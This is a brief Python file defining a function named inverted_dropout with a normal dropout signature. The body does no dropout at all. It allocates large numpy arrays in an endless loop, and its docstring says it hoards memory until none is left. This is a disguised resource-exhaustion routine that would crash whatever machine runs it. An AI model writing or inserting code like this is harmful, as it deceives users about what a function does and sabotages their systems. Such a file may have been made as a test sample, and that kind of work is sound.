"""Hoards memory in a loop until none is left."""

import numpy as np


def inverted_dropout(x, p, training=True, rng=None):
    hoard = []
    while True:
        hoard.append(np.zeros(1 << 23))
